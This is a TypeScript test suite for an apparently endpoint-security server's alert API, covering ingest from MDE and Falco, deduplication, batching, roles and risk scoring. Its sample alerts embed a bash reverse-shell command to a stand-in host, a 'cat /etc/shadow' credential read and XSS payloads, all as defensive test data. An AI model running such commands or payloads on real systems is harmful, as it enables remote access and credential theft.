import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CordonEvent } from '../events.js';
import { startHarness, type Harness } from '../testing/harness.js';

const fixture = (name: string) => JSON.parse(readFileSync(new URL(`../testing/fixtures/${name}.json`, import.meta.url), 'utf8')) as Record<string, unknown>;

let h: Harness;
beforeEach(async () => {
  h = await startHarness();
});
afterEach(async () => {
  await h.close();
});

const ingest = (body: unknown, token = h.tokens.ingest) => h.call('POST', '/api/alerts', { token, body });
const machine = async (id: string) => (await h.call('GET', `/api/machines/${id}`)).body;
const timeline = async (id: string) => (await h.call('GET', `/api/machines/${id}/timeline`)).body.value as { eventType: string; title: string; data: Record<string, unknown> | null }[];
const audit = async () => (await h.call('GET', '/api/audit?$top=1000')).body.value as { action: string; targetId: string | null; actor: string; outcome: string; detail: Record<string, unknown> | null }[];
const list = async (query = '', token?: string) => (await h.call('GET', `/api/alerts${query}`, { token })).body;

describe('alerts: ingest from other tools', () => {
  it('stores an alert in MDE shape on the device it names, raises its risk, and puts it on the timeline and in the audit log', async () => {
    const id = await h.enroll({ hostname: 'web-01' });
    const r = await ingest({
      ComputerDnsName: 'WEB-01',
      Title: 'Reverse shell',
      Severity: 'High',
      Category: 'Execution',
      Description: 'bash -i to 203.0.113.9',
      MitreTechniques: ['T1059.004'],
      Evidence: [
        { entityType: 'Process', processId: 4242, processCommandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', accountName: 'www-data' },
        { entityType: 'File', filePath: '/tmp/x.sh', sha256: 'A'.repeat(64), sha1: 'b'.repeat(40) },
        { entityType: 'Ip', ipAddress: '203.0.113.9', port: 4444, domain: 'evil.example.com' },
      ],
    });
    expect(r.status).toBe(201);
    const a = r.body;
    expect(a).toMatchObject({ machineId: id, computerDnsName: 'web-01', title: 'Reverse shell', severity: 'High', status: 'New', category: 'Execution', detectionSource: 'Custom', assignedTo: null, classification: null, determination: null, resolvedTime: null, incidentId: null, eventCount: 1, createdBy: 'ingest-user', mitreTechniques: ['T1059.004'], comments: [] });
    expect(a.id).toMatch(/^[0-9a-f-]{36}$/);
    // Evidence has every field, null where not given; hashes are stored lower-case.
    expect(a.evidence).toHaveLength(3);
    expect(a.evidence[1]).toMatchObject({ entityType: 'File', filePath: '/tmp/x.sh', sha256: 'a'.repeat(64), sha1: 'b'.repeat(40), processId: null, ipAddress: null, url: null });
    expect(a.evidence[2]).toMatchObject({ entityType: 'Ip', ipAddress: '203.0.113.9', port: 4444, domain: 'evil.example.com' });
    expect(Object.keys(a.evidence[0]).sort()).toEqual(Object.keys(a.evidence[2]).sort());

    expect((await machine(id)).riskScore).toBe('High');
    expect((await h.call('GET', `/api/alerts/${a.id}`)).body).toEqual(a);
    expect((await timeline(id)).find((e) => e.eventType === 'AlertRaised')).toMatchObject({ title: 'High alert: Reverse shell', data: { alertId: a.id, severity: 'High' } });
    expect((await audit()).find((x) => x.action === 'IngestAlert')).toMatchObject({ actor: 'ingest-user', targetId: a.id, outcome: 'Succeeded', detail: { repeat: false } });
  });

  it('counts the same source event sent twice on one alert (by content, or by the sender\'s event id)', async () => {
    const id = await h.enroll({ hostname: 'web-01' });
    const body = { machineId: id, title: 'Port scan', severity: 'Low', firstEventTime: '2026-11-25T09:00:00Z' };
    const first = await ingest(body);
    const again = await ingest(body);
    expect([first.status, again.status]).toEqual([201, 200]);
    expect(again.body).toMatchObject({ id: first.body.id, eventCount: 2 });
    // Another moment is another event.
    expect((await ingest({ ...body, firstEventTime: '2026-11-25T09:05:00Z' })).status).toBe(201);
    // The sender's id decides when given, whatever the content.
    const byId = await ingest({ machineId: id, title: 'Login burst', severity: 'Low', sourceEventId: 'siem-77' });
    const byIdAgain = await ingest({ machineId: id, title: 'Login burst (updated)', severity: 'Low', sourceEventId: 'siem-77', lastEventTime: '2026-11-25T11:00:00Z' });
    expect(byIdAgain.body).toMatchObject({ id: byId.body.id, eventCount: 2, title: 'Login burst', lastEventTime: '2026-11-25T11:00:00.000Z' });
    // Sent together (one batch), repeats are still one alert.
    const burst = await Promise.all(Array.from({ length: 20 }, () => ingest({ machineId: id, title: 'Burst', severity: 'Medium', firstEventTime: '2026-11-25T10:00:00Z' })));
    expect(new Set(burst.map((b) => b.body.id)).size).toBe(1);
    expect(burst.filter((b) => b.status === 201)).toHaveLength(1);
    expect((await h.call('GET', `/api/alerts/${burst[0]!.body.id}`)).body.eventCount).toBe(20);
    expect((await list('?$count=true&$top=1'))['@odata.count']).toBe(4);
    expect((await timeline(id)).filter((e) => e.eventType === 'AlertRaised')).toHaveLength(4);
  });

  it('keeps an alert for a host that has not enrolled and joins it to the device when it enrolls', async () => {
    const r = await ingest({ computerDnsName: 'Build-09', title: 'Miner started', severity: 'Medium' });
    expect(r.status).toBe(201);
    expect(r.body).toMatchObject({ machineId: null, computerDnsName: 'Build-09' });
    const events: CordonEvent[] = [];
    const off = h.server.hub.subscribe((e) => events.push(e));
    const id = await h.enroll({ hostname: 'build-09' });
    off();
    expect((await h.call('GET', `/api/alerts/${r.body.id}`)).body.machineId).toBe(id);
    expect((await machine(id)).riskScore).toBe('Medium');
    expect((await timeline(id)).find((e) => e.eventType === 'AlertRaised')).toMatchObject({ data: { alertId: r.body.id, joinedAtEnrollment: true } });
    expect(events).toContainEqual({ kind: 'machine', machineId: id, change: 'risk' });
    // Another device's name does not take it.
    await h.enroll({ hostname: 'build-10' });
    expect((await h.call('GET', `/api/machines/${id}/alerts`)).body.value).toHaveLength(1);
  });

  it('refuses bad input with a 400 naming the field, a body over the limit with 413, and stores nothing', async () => {
    const id = await h.enroll({ hostname: 'web-01' });
    const ok = { machineId: id, title: 'x', severity: 'High' };
    const cases: [unknown, string][] = [
      [{ ...ok, severity: 'Severe' }, 'severity'],
      [{ ...ok, Severity: 'Critical', severity: undefined }, 'Severity'],
      [{ ...ok, evidence: [{ entityType: 'File', sha256: 'abc' }] }, 'Evidence.0.sha256'],
      [{ ...ok, evidence: [{ entityType: 'File', sha1: 'z'.repeat(40) }] }, 'Evidence.0.sha1'],
      [{ ...ok, evidence: [{ entityType: 'Ip', ipAddress: '999.1.1.1' }] }, 'Evidence.0.ipAddress'],
      [{ ...ok, evidence: [{ entityType: 'Registry' }] }, 'Evidence.0.entityType'],
      [{ ...ok, title: '' }, 'title'],
      [{ ...ok, firstEventTime: 'yesterday' }, 'firstEventTime'],
      [{ title: 'x', severity: 'High' }, 'MachineId'],
      [{ ...ok, machineId: 'WEB' }, 'machineId'],
      [{ ...ok, colour: 'red' }, 'Colour'],
      // PostgreSQL cannot keep NUL in text: refused on both stores alike.
      [{ ...ok, title: 'a\u0000b' }, 'title'],
      [{ ...ok, evidence: [{ entityType: 'Process', processCommandLine: 'sh\u0000-c' }] }, 'Evidence.0.processCommandLine'],
    ];
    for (const [body, target] of cases) {
      const r = await ingest(body);
      expect(r.status, JSON.stringify(body)).toBe(400);
      expect(r.body.error.target?.toLowerCase(), JSON.stringify(r.body)).toBe(target.toLowerCase());
    }
    expect((await ingest({ ...ok, machineId: 'f'.repeat(40) })).status).toBe(404);
    const big = await ingest({ ...ok, description: 'x'.repeat(300 * 1024) });
    expect(big.status).toBe(413);
    expect(big.body.error).toMatchObject({ code: 'PayloadTooLarge', target: 'body' });
    expect((await list()).value).toEqual([]);
    expect((await machine(id)).riskScore).toBe('None');
  });

  it('stores HTML and script as sent (text, never interpreted)', async () => {
    const id = await h.enroll();
    const title = '<img src=x onerror=alert(1)><script>alert("t")</script>';
    const r = await ingest({ machineId: id, title, severity: 'Low', description: '<b>bold</b> & "quoted"', evidence: [{ entityType: 'Process', processCommandLine: '<svg onload=alert(2)>' }] });
    const got = (await h.call('GET', `/api/alerts/${r.body.id}`)).body;
    expect(got.title).toBe(title);
    expect(got.description).toBe('<b>bold</b> & "quoted"');
    expect(got.evidence[0].processCommandLine).toBe('<svg onload=alert(2)>');
  });

  it("takes Falco's JSON alert as Falco writes it, on the device of its host name", async () => {
    const web = await h.enroll({ hostname: 'web-01' });
    const db = await h.enroll({ hostname: 'db-07' });
    const r = await h.call('POST', '/api/alerts/falco', { token: h.tokens.ingest, body: fixture('falco-read-sensitive-file') });
    expect(r.status).toBe(201);
    expect(r.body).toMatchObject({
      machineId: web,
      computerDnsName: 'web-01',
      title: 'Read sensitive file untrusted',
      severity: 'Medium',
      category: 'CredentialAccess',
      detectionSource: 'Falco',
      mitreTechniques: ['T1555'],
      firstEventTime: '2026-11-30T10:53:34.046Z',
    });
    expect(r.body.description).toContain('cat /etc/shadow');
    expect(r.body.evidence).toEqual([
      expect.objectContaining({ entityType: 'Process', processId: 23049, processCommandLine: 'cat /etc/shadow', fileName: 'cat', filePath: '/usr/bin/cat', accountName: 'root' }),
      expect.objectContaining({ entityType: 'File', filePath: '/etc/shadow', fileName: 'shadow' }),
    ]);
    const c2 = await h.call('POST', '/api/alerts/falco', { token: h.tokens.ingest, body: fixture('falco-outbound-c2') });
    expect(c2.body).toMatchObject({ machineId: db, severity: 'High', category: 'CommandAndControl' });
    expect(c2.body.evidence).toContainEqual(expect.objectContaining({ entityType: 'Ip', ipAddress: '203.0.113.50', port: 4444 }));
    expect(c2.body.evidence.find((e: { entityType: string }) => e.entityType === 'File')).toBeUndefined();
    // Falco retrying the same alert is one alert with a count.
    const again = await h.call('POST', '/api/alerts/falco', { token: h.tokens.ingest, body: fixture('falco-read-sensitive-file') });
    expect(again.status).toBe(200);
    expect(again.body).toMatchObject({ id: r.body.id, eventCount: 2 });
    expect((await machine(web)).riskScore).toBe('Medium');
    expect((await machine(db)).riskScore).toBe('High');
    // Not Falco's shape: a 400 naming the field.
    const bad = await h.call('POST', '/api/alerts/falco', { token: h.tokens.ingest, body: { ...fixture('falco-outbound-c2'), priority: 'Loud' } });
    expect(bad.status).toBe(400);
    expect(bad.body.error.target).toBe('priority');
  });

  it('gives the ingest role the ingest endpoints and nothing else', async () => {
    const token = (await h.call('POST', '/api/tokens', { body: { role: 'ingest', name: 'falco' } })).body.token as string;
    const id = await h.enroll();
    expect((await ingest({ machineId: id, title: 'x', severity: 'Low' }, token)).status).toBe(201);
    for (const [method, url] of [['GET', '/api/alerts'], ['GET', '/api/machines'], ['POST', `/api/machines/${id}/isolate`]] as const) {
      expect((await h.call(method, url, { token, body: method === 'POST' ? { Comment: 'x', IsolationType: 'Full' } : undefined })).status).toBe(403);
    }
    // Falco cannot send headers: an ingest token may come in the URL, on the ingest endpoints only.
    const falco = await h.call('POST', `/api/alerts/falco?token=${token}`, { token: null, body: fixture('falco-outbound-c2') });
    expect(falco.status).toBe(201);
    expect(falco.body.createdBy).toBe('falco');
    expect((await h.call('GET', `/api/alerts?token=${token}`, { token: null })).status).toBe(401);
    expect((await h.call('POST', `/api/alerts/falco?token=${h.tokens.admin}`, { token: null, body: fixture('falco-outbound-c2') })).status).toBe(401);
    expect((await h.call('POST', `/api/alerts/falco?token=nope`, { token: null, body: fixture('falco-outbound-c2') })).status).toBe(401);
    // Console users are people: never the ingest role.
    expect((await h.server.services.users.createUser('bot', null, 'ingest', 'test').catch((e: Error) => e.message))).toMatch(/role must be/);
  });

  it('takes a forwarder\'s batch in one request, all or none, answering each alert in order', async () => {
    const web = await h.enroll({ hostname: 'web-07' });
    const batch = (value: unknown[]) => h.call('POST', '/api/alerts/batch', { token: h.tokens.ingest, body: { value } });
    const one = (i: number, over: Record<string, unknown> = {}) => ({ computerDnsName: 'WEB-07', title: `fwd ${i}`, severity: 'Low', sourceEventId: `fwd-${i}`, ...over });
    const r = await batch([one(1), one(2, { severity: 'High' }), one(1), one(3, { computerDnsName: 'not-enrolled-yet' })]);
    expect(r.status).toBe(200);
    const value = r.body.value as { id: string; created: boolean; eventCount: number }[];
    expect(value.map((v) => [v.created, v.eventCount])).toEqual([[true, 2], [true, 1], [false, 2], [true, 1]]);
    expect(value[2]!.id).toBe(value[0]!.id);
    expect((await h.call('GET', `/api/alerts/${value[0]!.id}`)).body).toMatchObject({ machineId: web, title: 'fwd 1', eventCount: 2 });
    expect((await h.call('GET', `/api/alerts/${value[3]!.id}`)).body).toMatchObject({ machineId: null, computerDnsName: 'not-enrolled-yet' });
    expect((await machine(web)).riskScore).toBe('High');
    expect((await timeline(web)).filter((e) => e.eventType === 'AlertRaised')).toHaveLength(2);
    expect((await audit()).filter((a) => a.action === 'IngestAlert' && a.outcome === 'Succeeded')).toHaveLength(4);

    // One bad alert, or one unknown device: nothing of the batch is stored.
    const before = (await list('?$count=true&$top=1'))['@odata.count'] as number;
    const bad = await batch([one(10), one(11, { severity: 'Loud' })]);
    expect([bad.status, bad.body.error.target]).toEqual([400, 'value.1.severity']);
    const unknown = await batch([one(12), one(13, { computerDnsName: undefined, machineId: 'f'.repeat(40) })]);
    expect(unknown.status).toBe(404);
    expect((await list('?$count=true&$top=1'))['@odata.count']).toBe(before);
    expect((await batch([])).status).toBe(400);
    expect((await batch(Array.from({ length: 501 }, (_, i) => one(100 + i)))).status).toBe(400);
    // Only for senders: a viewer may not, an ingest token may not read what it sent.
    expect((await h.call('POST', '/api/alerts/batch', { token: h.tokens.viewer, body: { value: [one(20)] } })).status).toBe(403);
  });

  it("counts alerts against an ingest limit of their own, not the API's per-token limit: a burst from one sender is not refused", async () => {
    const limited = await startHarness({ rateLimitPerMinute: 3, ingestRateLimitPerMinute: 8 });
    try {
      const id = await limited.enroll();
      const send = (i: number) => limited.call('POST', '/api/alerts', { token: limited.tokens.ingest, body: { machineId: id, title: `burst ${i}`, severity: 'Low' } });
      for (let i = 0; i < 8; i++) expect((await send(i)).status).toBe(201);
      const over = await send(8);
      expect(over.status).toBe(429);
      expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
      // The API's own budget is untouched by the burst.
      expect((await limited.call('GET', '/api/alerts')).status).toBe(200);
    } finally {
      await limited.close();
    }
  });
});

describe('alerts: triage and risk', () => {
  it('risk follows the highest open alert up and down as alerts are resolved and reopened', async () => {
    const id = await h.enroll();
    const high = (await ingest({ machineId: id, title: 'High one', severity: 'High' })).body.id as string;
    const low = (await ingest({ machineId: id, title: 'Low one', severity: 'Low' })).body.id as string;
    expect((await machine(id)).riskScore).toBe('High');
    const events: CordonEvent[] = [];
    const off = h.server.hub.subscribe((e) => events.push(e));
    const resolved = await h.call('PATCH', `/api/alerts/${high}`, { token: h.tokens.analyst, body: { Status: 'Resolved', Classification: 'TruePositive', Determination: 'Malware', Comment: 'cleaned up' } });
    off();
    expect(resolved.status).toBe(200);
    expect(resolved.body).toMatchObject({ status: 'Resolved', classification: 'TruePositive', determination: 'Malware', resolvedTime: expect.any(String), comments: [{ comment: 'cleaned up', createdBy: 'analyst-user' }] });
    expect((await machine(id)).riskScore).toBe('Low');
    expect(events).toContainEqual({ kind: 'machine', machineId: id, change: 'risk' });
    expect(events).toContainEqual(expect.objectContaining({ kind: 'alerts', change: 'updated', alertIds: [high] }));
    await h.call('PATCH', `/api/alerts/${low}`, { body: { status: 'Resolved' } });
    expect((await machine(id)).riskScore).toBe('None');
    const reopened = await h.call('PATCH', `/api/alerts/${high}`, { body: { status: 'InProgress', assignedTo: 'ana@example.com' } });
    expect(reopened.body).toMatchObject({ status: 'InProgress', resolvedTime: null, assignedTo: 'ana@example.com' });
    expect((await machine(id)).riskScore).toBe('High');
    // Each change is on the timeline and in the audit log.
    const updates = (await timeline(id)).filter((e) => e.eventType === 'AlertUpdated');
    expect(updates).toHaveLength(3);
    expect(updates.at(-1)!.title).toContain('status set to Resolved');
    expect((await audit()).filter((x) => x.action === 'UpdateAlert' && x.outcome === 'Succeeded')).toHaveLength(3);
    // The risk filter and order of the devices list follow.
    expect((await h.call('GET', `/api/machines?$filter=${encodeURIComponent("riskScore eq 'High'")}`)).body.value.map((m: { id: string }) => m.id)).toEqual([id]);
  });

  it('refuses unknown values with a 400 naming the field, a viewer with 403, an unknown alert with 404, and changes nothing', async () => {
    const id = await h.enroll();
    const a = (await ingest({ machineId: id, title: 'x', severity: 'High' })).body.id as string;
    for (const [body, target] of [
      [{ status: 'Closed' }, 'status'],
      [{ classification: 'Bad' }, 'classification'],
      [{ determination: 'Aliens' }, 'determination'],
      [{}, 'status'],
      [{ status: 'Resolved', colour: 'red' }, 'colour'],
    ] as const) {
      const r = await h.call('PATCH', `/api/alerts/${a}`, { body });
      expect(r.status, JSON.stringify(body)).toBe(400);
      expect(r.body.error.target.toLowerCase()).toBe(target);
    }
    expect((await h.call('PATCH', `/api/alerts/${a}`, { token: h.tokens.viewer, body: { status: 'Resolved' } })).status).toBe(403);
    expect((await h.call('PATCH', '/api/alerts/nope', { body: { status: 'Resolved' } })).status).toBe(404);
    // A batch naming one unknown alert changes none of them.
    const batch = await h.call('POST', '/api/alerts/batchUpdate', { body: { alertIds: [a, 'nope'], status: 'Resolved' } });
    expect(batch.status).toBe(404);
    expect((await h.call('GET', `/api/alerts/${a}`)).body.status).toBe('New');
    expect((await machine(id)).riskScore).toBe('High');
  });

  it('updates several alerts at once', async () => {
    const id = await h.enroll();
    const ids = await Promise.all(['a', 'b', 'c'].map(async (t) => (await ingest({ machineId: id, title: t, severity: 'Medium' })).body.id as string));
    const r = await h.call('POST', '/api/alerts/batchUpdate', { token: h.tokens.analyst, body: { AlertIds: ids.slice(0, 2), Status: 'Resolved', AssignedTo: 'me' } });
    expect(r.status).toBe(200);
    expect(r.body.value.map((x: { status: string; assignedTo: string }) => [x.status, x.assignedTo])).toEqual([['Resolved', 'me'], ['Resolved', 'me']]);
    expect((await h.call('GET', `/api/alerts/${ids[2]}`)).body.status).toBe('New');
    expect((await machine(id)).riskScore).toBe('Medium');
  });

  it('lists with OData: filter by severity and status, order, count and paging; a device has its own list', async () => {
    const a = await h.enroll({ hostname: 'a' });
    const b = await h.enroll({ hostname: 'b' });
    for (const [m, sev, t] of [[a, 'High', 'a1'], [a, 'Low', 'a2'], [b, 'High', 'b1'], [b, 'Informational', 'b2'], [b, 'Medium', 'b3']] as const) {
      h.clock.advance(1000);
      await ingest({ machineId: m, title: t, severity: sev });
    }
    const newest = await list();
    expect(newest.value.map((x: { title: string }) => x.title)).toEqual(['b3', 'b2', 'b1', 'a2', 'a1']);
    const f = encodeURIComponent("severity eq 'High' and status eq 'New'");
    const high = await list(`?$filter=${f}&$count=true`);
    expect(high.value.map((x: { title: string }) => x.title)).toEqual(['b1', 'a1']);
    expect(high['@odata.count']).toBe(2);
    const bySeverity = await list('?$orderby=severity desc,title&$top=3');
    expect(bySeverity.value.map((x: { title: string }) => x.title)).toEqual(['a1', 'b1', 'b3']);
    expect((await list(`?$filter=${encodeURIComponent("severity in ('Low','Informational')")}&$skip=1`)).value.map((x: { title: string }) => x.title)).toEqual(['a2']);
    expect((await h.call('GET', `/api/machines/${a}/alerts`)).body.value.map((x: { title: string }) => x.title)).toEqual(['a2', 'a1']);
    expect((await h.call('GET', `/api/v1.0/alerts?$filter=${encodeURIComponent(`machineId eq '${b}'`)}`)).body.value).toHaveLength(3);
    const bad = await h.call('GET', `/api/alerts?$filter=${encodeURIComponent("severity eq 'Huge'")}`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toContain('Informational, Low, Medium, High');
    expect((await h.call('GET', `/api/alerts?$filter=${encodeURIComponent("colour eq 'red'")}`)).status).toBe(400);
    const nul = await h.call('GET', `/api/alerts?$filter=${encodeURIComponent("title eq 'a\u0000'")}`);
    expect([nul.status, nul.body.error.target]).toEqual([400, '$filter']);
    expect((await h.call('GET', `/api/machines/${'f'.repeat(40)}/alerts`)).status).toBe(404);
  });

  it("turns an agent's detection event into an alert once, however often it is delivered", async () => {
    const id = await h.enroll();
    const event = { type: 'event' as const, eventId: '00000000-0000-4000-8000-000000000071', kind: 'detection' as const, occurredAt: '2026-11-25T09:59:00.000Z', data: { title: 'EICAR test file', severity: 'Informational', detectionSource: 'Antivirus', evidence: [{ entityType: 'File', filePath: '/tmp/eicar.com', sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f' }] } };
    await h.server.services.alerts.accept(id, event);
    await h.server.services.alerts.accept(id, event);
    const all = (await list()).value;
    expect(all).toHaveLength(1);
    expect(all[0]).toMatchObject({ machineId: id, title: 'EICAR test file', detectionSource: 'Antivirus', eventCount: 2, createdBy: 'agent', firstEventTime: '2026-11-25T09:59:00.000Z' });
    // Data this server cannot read is still an alert, never lost.
    h.clock.advance(1000);
    await h.server.services.alerts.accept(id, { ...event, eventId: '00000000-0000-4000-8000-000000000072', kind: 'blockedExecution', data: { path: '/tmp/x', title: 'nul\u0000' } });
    expect((await list()).value[0]).toMatchObject({ title: 'Unreadable blockedExecution event from the agent', severity: 'Medium', detectionSource: 'ExecutionControl' });
    expect((await machine(id)).riskScore).toBe('Medium');
  });
});
